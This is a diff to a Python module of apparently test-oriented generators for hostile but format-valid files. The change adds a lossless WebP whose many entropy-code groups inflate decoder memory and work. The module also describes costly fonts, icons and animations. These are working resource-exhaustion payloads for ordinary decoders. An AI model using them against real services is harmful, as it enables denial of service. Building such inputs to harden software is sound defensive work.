@@ -1,6 +1,6 @@
 """Hostile files of another host, each valid in its format, built by hand: TrueType fonts whose glyphs cost the
-font engine without bound, icons whose entries share one costly PNG, and animations of many 1 x 1 frames
-(GIF, APNG, WebP).
+font engine without bound, icons whose entries share one costly PNG, animations of many 1 x 1 frames
+(GIF, APNG, WebP) and a lossless WebP whose entropy codes cost the decoder past what its header tells.
 """
 
 import struct
@@ -139,4 +139,35 @@ def webp(frames, delay=20):
         struct.pack("<4sI", b"VP8L", len(lossless)) + lossless + b"\0"
     body = (b"WEBP" + struct.pack("<4sIB3x", b"VP8X", 10, 0x02) + b"\0" * 6
             + struct.pack("<4sIIH", b"ANIM", 6, 0, 0) + frame * frames)
+    return b"RIFF" + struct.pack("<I", len(body)) + body
+
+
+def lossless_webp(side=2048, precision=3):
+    """A lossless WebP of side x side pixels whose entropy image names a code group of its own for each square of
+    (1 << precision) pixels, up to 65,536 groups (the decoder's tables: about 5 KiB each), each of four 2-symbol
+    codes: 4 bits a pixel, all zero."""
+    bits = []  # (value, width), written LSB first
+
+    def literals(max_symbol):  # a normal code of 8 bits for each of 256 literals: the code length code holds 8
+        bits.extend([(0, 1), (12 - 4, 4)] + [(int(i == 11), 3) for i in range(12)] + [(max_symbol, 1)])
+        bits.extend([(3, 3), (256 - 2, 8)] if max_symbol else [])  # 256 lengths, told in 8 bits
+
+    cells = (side + (1 << precision) - 1) >> precision
+    groups = min(cells * cells, 1 << 16)
+    # Signature, size, alpha and version; no transform or colour cache; an entropy image of its own codes.
+    bits.extend([(0x2F, 8), (side - 1, 14), (side - 1, 14), (0, 4), (0, 2), (1, 1), (precision - 2, 3), (0, 1)])
+    literals(1)
+    literals(0)
+    bits.extend([(0b0001, 4)] * 3)  # simple codes of 1 symbol: blue, alpha, distance
+    for i in range(cells * cells):  # green, then red: the group's number, each code MSB first
+        bits.extend((int(format(byte, "08b")[::-1], 2), 8) for byte in ((i % groups) & 0xFF, (i % groups) >> 8))
+    bits.extend(([(0b0011, 4), (1, 8)] * 4 + [(0b0001, 4)]) * groups)  # 2 symbols, the first of 1 bit: 0, then 1
+    out, acc, at = bytearray(), 0, 0
+    for value, width in bits:
+        acc, at = acc | value << at, at + width
+        while at >= 8:
+            out.append(acc & 0xFF)
+            acc, at = acc >> 8, at - 8
+    data = bytes(out) + bytes([acc]) + bytes(side * side // 2)
+    body = b"WEBP" + struct.pack("<4sI", b"VP8L", len(data)) + data + b"\0" * (len(data) % 2)
     return b"RIFF" + struct.pack("<I", len(body)) + body
